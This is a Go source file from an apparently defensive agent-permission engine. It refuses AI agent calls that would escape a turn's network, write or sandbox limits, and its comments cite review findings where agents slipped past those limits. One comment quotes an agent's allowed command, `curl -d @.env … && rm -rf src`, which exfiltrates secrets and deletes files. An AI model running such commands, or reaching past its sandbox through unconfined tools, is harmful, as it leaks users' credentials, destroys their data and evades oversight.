package engine

import (
	"turnstile/domain"
)

// The resource checks judge a call against the snapshot as it stands for a
// call a person may still approve (domain's Approvable: a disabled network
// enabled unless locked, a read-only sandbox's workspace and project roots
// writable), so that what the policy asks about reaches the person instead
// of being refused by a restriction that holds "until granted". A call the
// policy table allows outright is asked of nobody: judged so, a profile
// that disables the network or keeps the workspace read-only while its
// table allows network calls and writes (an unattended "read only, no
// network, never ask" reviewer) let the agent fetch and write past every
// view of the turn (the twenty-ninth review). asIsRefusal judges such a
// call against the snapshot itself, as /explain and the kernel do.

// asIsRefusal refuses what a's call does that the snapshot as it stands
// does not allow: a network call (with a URL or not) where the network is
// disabled, one without a URL whose domains the host rules do not hold
// (domain.NetworkPolicy.DomainsInside: under an allow-list, a web search
// not kept to listed domains), a write where the read-only sandbox does
// not grant one, a shell command a CLI runtime runs itself where the
// snapshot restricts files or network (unconfined), and a call of a kind
// no sandbox holds there (unheldKind).
func asIsRefusal(snap *domain.TurnExecutionSecuritySnapshot, a *domain.Action) error {
	if a.Kind == domain.ActionShellCommand && unconfined(snap) {
		return commandUnconfined(snap.Backend.ExecutionBackend)
	}
	if k := unheldOf(a); k != "" && snap.RestrictsReach() {
		return toolUnconfined(k)
	}
	if (a.URL != nil || a.Kind == domain.ActionNetwork) && snap.Network.Mode == domain.NetworkDisabled {
		return networkOff{}
	}
	if a.URL == nil && a.Kind == domain.ActionNetwork && !snap.Network.DomainsInside(a.Domains) {
		return domainsOutside{}
	}
	if snap.Sandbox.Mode != domain.SandboxReadOnly {
		return nil // Approvable changes no root of another mode
	}
	for _, f := range a.Files {
		if f.Access != domain.AccessWrite {
			continue
		}
		// The paths are resolved (the classification's resolver).
		w := domain.AccessAt(&snap.Sandbox.Filesystem, f.Path) == domain.AccessWrite
		if rules := snap.Sandbox.Filesystem.Rules; w && len(rules) > 0 {
			w = domain.ResolvePathRules(rules, f.Path).Access == domain.AccessWrite
		}
		if !w {
			return readOnlyPath(f.Path)
		}
	}
	return nil
}

// urlLessRefusal refuses a network call without a URL (web_search: its
// query goes to a search service no host check sees) where the network the
// call is judged under is disabled: locked (a task cap's), which Approvable
// keeps, whatever the policy table says; asIsRefusal refuses the rest when
// the table allows the call outright.
func urlLessRefusal(snap *domain.TurnExecutionSecuritySnapshot, a *domain.Action) error {
	if a.Kind == domain.ActionNetwork && a.URL == nil && snap.Network.Mode == domain.NetworkDisabled && snap.Network.Locked {
		return networkOff{}
	}
	// A search that names its domains is held to the host rules whatever
	// the table says, as a fetch of one of them is refused before anyone
	// is asked (the seventy-ninth review); one naming none is asked where
	// the table asks.
	if a.Kind == domain.ActionNetwork && a.URL == nil && len(a.Domains) > 0 && !snap.Network.DomainsInside(a.Domains) {
		return domainsOutside{}
	}
	return nil
}

// networkOff refuses a network call where the turn's network is disabled.
type networkOff struct{}

func (networkOff) Error() string       { return "the turn's network is disabled" }
func (networkOff) RefusalCode() string { return "network_disabled" }

// domainsOutside refuses a network call without a URL that the host rules
// do not hold.
type domainsOutside struct{}

func (domainsOutside) Error() string {
	return "a network call without a URL (a web search) reaches hosts no URL check sees: under the turn's allow-list its allowed_domains must be given, each allowed and none denied, and the turn's policy allows the call without asking anyone"
}
func (domainsOutside) RefusalCode() string { return "host_not_allowed" }

// readOnlyPath refuses a write the snapshot does not grant.
type readOnlyPath string

func (p readOnlyPath) Error() string {
	return "write to " + string(p) + " requires a writable root, and the turn's policy allows the call without asking anyone"
}
func (readOnlyPath) RefusalCode() string { return "write_requires_writable_root" }

// unconfined reports whether the turn's commands run where nothing holds
// them to a snapshot that restricts files or network: a CLI runtime
// (claude_cli, codex_cli) runs its shell commands itself, outside
// turnstile's kernel sandbox, so a restricted snapshot binds them only
// through the decision. A file tool's or a fetch's call is judged by its
// files and URL; a shell command's reach is not known from its text (the
// eighty-second review: under a read-only, no-network profile that never
// asks, Claude Code's Bash `curl -d @.env … && rm -rf src` was allowed
// outright).
func unconfined(snap *domain.TurnExecutionSecuritySnapshot) bool {
	b := snap.Backend.ExecutionBackend
	if b == "" || b == domain.BackendNative {
		return false
	}
	return snap.RestrictsReach()
}

// unheldKind reports whether a call of kind k runs where no sandbox of
// turnstile's holds it, whatever the backend, with a reach its arguments
// do not tell: an MCP tool that is not a trusted read (an IDE's
// executeCode, a filesystem server's write_file), a computer-use action, a
// dynamic skill's tool (the eighty-fourth review).
func unheldKind(k domain.ActionKind) bool {
	return k == domain.ActionMCPWriteOrUnknown || k == domain.ActionComputerUse || k == domain.ActionDynamicSkillTool ||
		k == domain.ActionUnknown
}

// unheldOf is the kind of a's that no sandbox holds ("" when none is): its
// own, or its second (a sub-agent run where no hook sees its calls, an
// isolation's: the eighty-sixth review). An unknown tool (Claude Code's
// PowerShell, ReadMcpResourceTool; Codex's shell) is one: what it reaches
// is not known (the eighty-sixth review).
func unheldOf(a *domain.Action) domain.ActionKind {
	switch {
	case unheldKind(a.Kind):
		return a.Kind
	case unheldKind(a.Also):
		return a.Also
	}
	return ""
}

// toolUnconfined refuses such a call that the policy would allow without
// asking anyone where the snapshot restricts what it could reach.
type toolUnconfined domain.ActionKind

func (k toolUnconfined) Error() string {
	return "a " + string(k) + " call runs outside turnstile's kernel sandbox with a reach its arguments do not tell, so nothing holds it to the turn's file or network limits; the turn's policy allows it without asking anyone, so it is refused (use a profile that asks for it)"
}
func (toolUnconfined) RefusalCode() string { return "tool_unconfined" }

// commandUnconfined refuses a shell command that the policy would allow
// without asking anyone where nothing would hold it to the snapshot.
type commandUnconfined domain.ExecutionBackend

func (b commandUnconfined) Error() string {
	return "the turn's commands are run by the " + string(b) + " runtime itself, outside turnstile's kernel sandbox, so nothing holds a command to the turn's read-only or network limits; the turn's policy allows it without asking anyone, so it is refused (use a profile whose shell_command asks, or the native backend)"
}
func (commandUnconfined) RefusalCode() string { return "command_unconfined" }
